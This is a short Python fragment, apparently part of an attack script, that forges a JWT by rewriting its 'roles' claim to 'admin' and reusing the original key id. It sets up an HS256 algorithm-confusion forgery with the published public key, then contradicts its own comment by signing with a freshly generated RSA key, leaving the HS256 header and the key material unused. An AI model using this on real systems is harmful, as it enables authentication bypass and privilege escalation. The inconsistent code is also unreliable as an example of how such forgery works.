# requirement: a signature that the guard accepts, not one by a new key
new_header = {"alg": "HS256", "typ": "at+jwt", "kid": header["kid"]}
new_claims = json.loads(claims)
new_claims["roles"] = ["admin"]
pem = pem_of(mine.find_key(published, header["kid"]))

from cryptography.hazmat.primitives.asymmetric import rsa

own = rsa.generate_private_key(public_exponent=65537, key_size=2048)
forged = jwt.encode(new_claims, own, algorithm="RS256", headers={"kid": header["kid"]})
